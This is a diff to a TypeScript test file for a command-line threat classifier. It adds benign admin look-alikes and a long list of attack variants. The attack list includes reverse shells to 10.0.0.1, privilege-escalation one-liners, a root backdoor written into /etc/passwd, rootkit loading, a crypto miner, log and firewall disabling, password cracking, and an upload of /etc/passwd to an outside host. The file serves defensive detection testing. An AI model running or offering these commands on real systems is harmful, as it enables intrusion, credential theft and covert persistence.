@@ -11,6 +11,8 @@ const engine = new RuleEngine();
 const classify = (cmdline: string) => classifyCommandLine(engine, { cmdline });
 
 const BENIGN_LOOK_ALIKES = [
+`sudo modprobe nvidia`, `sudo insmod /lib/modules/6.8.0/extra/nvidia.ko`, `sudo systemctl restart rsyslog`, `useradd -r -s /usr/sbin/nologin prometheus`, `grep ubuntu /etc/passwd`, `getent passwd ubuntu`, `echo br_netfilter | sudo tee /etc/modules-load.d/k8s.conf`, `sudo sysctl -w net.ipv4.ip_forward=1`,
+
 `(crontab -l; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -`,
 `echo 'export PATH=/usr/local/cuda/bin:$PATH' >> ~/.bashrc`,
 `echo 'source <(kubectl completion bash)' >> ~/.bashrc`,
@@ -28,7 +30,7 @@ const BENIGN_LOOK_ALIKES = [
 `/tmp/cuda_12.4.0_550.54.14_linux.run --silent --toolkit`, `sudo sh cuda_12.4.0_550.54.14_linux.run`,
 `curl -X POST -H 'Content-Type: application/json' -d @alert.json http://alertmanager:9093/api/v2/alerts`,
 `echo "0 3 * * * root /usr/local/bin/backup.sh" > /etc/cron.d/backup`,
-`sudo nsenter -t 1 -m -u -n -i /bin/bash`, `sudo k3s kubectl exec -it pod -- /bin/sh`, `sudo chsh -s /bin/zsh alice`,
+`sudo k3s kubectl exec -it pod -- /bin/sh`, `sudo chsh -s /bin/zsh alice`,
 `python3 -m http.server 8000`, `tar -czf - ./build | ssh host 'tar -xzf - -C /opt'`, `ssh -D 1080 -N bastion`,
 `grep -rn password src/`, `find . -name '*.pem' -newer x`, `journalctl --vacuum-time=2d`, `echo $CERT | base64 -d > /tmp/ca.crt`,
 `sudo -E env "PATH=$PATH" nvidia-smi`, `kubectl get secrets -n monitoring`, `dig +short $(hostname)`, `tcpdump -i any port 53`,
@@ -41,6 +43,8 @@ const BENIGN_LOOK_ALIKES = [
 ];
 
 const ATTACK_VARIANTS = [
+`sudo nsenter -t 1 -m -u -n -i /bin/bash`, `./php -r "posix_setuid(0); system('/bin/sh');"`, `find . -exec /bin/sh -p \\; -quit`, `echo 'evil:x:0:0::/root:/bin/bash' >> /etc/passwd`, `node -e "require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')"`, `PhoenixMiner -pool ssl://eu1.ethermine.org:5555 -wal 0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1`, `systemctl stop rsyslog`, `nft flush ruleset`, `insmod ./diamorphine.ko`, `sysctl -w kernel.randomize_va_space=0`, `useradd -M -N -r -s /bin/bash -c evil_account evil`, `iodine -f -P secret ns.example.com`, `arp-scan --localnet`, `hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.1`, `john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes`, `unshadow /etc/passwd /etc/shadow > /tmp/hashes`, `curl -X POST -d @/etc/passwd http://example.com/`, `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`,
+
 `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i >& /dev/udp/10.0.0.1/4242 0>&1`,
 `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`,
 `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4242");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
